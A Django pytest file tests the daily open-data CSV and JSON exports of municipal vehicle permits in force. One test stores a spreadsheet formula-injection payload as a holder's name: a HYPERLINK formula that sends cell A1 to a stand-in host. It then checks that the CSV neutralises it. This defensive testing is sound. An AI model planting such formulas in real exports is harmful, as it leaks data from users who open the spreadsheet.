"""The daily open-data files: permits in force per municipality, CSV and JSON, and their download."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.test import Client

from apps.licensing import services
from apps.licensing.models import Permit
from apps.public.opendata import FIELDS

pytestmark = pytest.mark.django_db


def test_the_export_lists_permits_in_force_with_the_published_fields(
    client: Client, olimpia_permit: Permit, patrocinio_permit: Permit, today: dt.date
) -> None:
    services.permit_suspend(
        permit=olimpia_permit,
        actor=None,
        as_of=today,
        until=today + dt.timedelta(days=5),
        reason="Decisão definitiva.",
    )
    call_command("export_open_data", "--as-of", today.isoformat(), stdout=io.StringIO())
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/dados-abertos/3533908/alvaras-em-vigor.csv").getvalue().decode())
        )
    )
    assert [row["permit_number"] for row in rows] == [olimpia_permit.number]
    assert tuple(rows[0]) == FIELDS
    assert rows[0]["status"] == "suspended" and rows[0]["holder_name"] == "Maria Aparecida Souza"
    document = json.loads(client.get("/dados-abertos/3148103/alvaras-em-vigor.json").getvalue())
    assert document["as_of"] == today.isoformat() and document["count"] == 1
    assert document["permits"][0]["plate"] == patrocinio_permit.vehicle.plate


def test_revoked_and_expired_permits_leave_the_list(
    client: Client, olimpia_permit: Permit, today: dt.date
) -> None:
    assert olimpia_permit.valid_until is not None
    day_after = olimpia_permit.valid_until + dt.timedelta(days=1)
    call_command("export_open_data", "--as-of", day_after.isoformat(), stdout=io.StringIO())
    assert json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())["count"] == 0
    services.permit_revoke(permit=olimpia_permit, actor=None, as_of=today, reason="Cassação.")
    call_command("export_open_data", stdout=io.StringIO())
    assert json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())["count"] == 0


def test_the_page_lists_each_town_and_says_when_nothing_was_published(
    client: Client, olimpia_permit: Permit, votuporanga: Any, today: dt.date
) -> None:
    call_command("export_open_data", "--municipio", "3533908", stdout=io.StringIO())
    page = client.get("/dados-abertos/").content.decode()
    assert "/dados-abertos/3533908/alvaras-em-vigor.csv" in page
    assert "ainda não publicado" in page
    assert client.get("/dados-abertos/3557105/alvaras-em-vigor.csv").status_code == 404
    assert client.get("/dados-abertos/3533908/alvaras-em-vigor.xml").status_code == 404


def test_the_command_refuses_bad_arguments(olimpia: Any) -> None:
    with pytest.raises(CommandError, match="data inválida"):
        call_command("export_open_data", "--as-of", "30/11/2026")
    with pytest.raises(CommandError, match="não encontrado"):
        call_command("export_open_data", "--municipio", "0000000")


def test_a_formula_in_a_holders_name_is_neutralized_in_the_csv(
    client: Client, olimpia_permit: Permit, today: dt.date
) -> None:
    from apps.registry.models import Person

    formula = '=HYPERLINK("http://exemplo.invalid/?x="&A1,"Clique")'
    Person.objects.filter(operators=olimpia_permit.operator).update(name=formula)
    call_command("export_open_data", "--as-of", today.isoformat(), stdout=io.StringIO())
    text = client.get("/dados-abertos/3533908/alvaras-em-vigor.csv").getvalue().decode()
    assert list(csv.DictReader(io.StringIO(text)))[0]["holder_name"] == "'" + formula
    document = json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())
    assert (
        document["permits"][0]["holder_name"] == formula
    )  # JSON is data, not a spreadsheet: kept as written
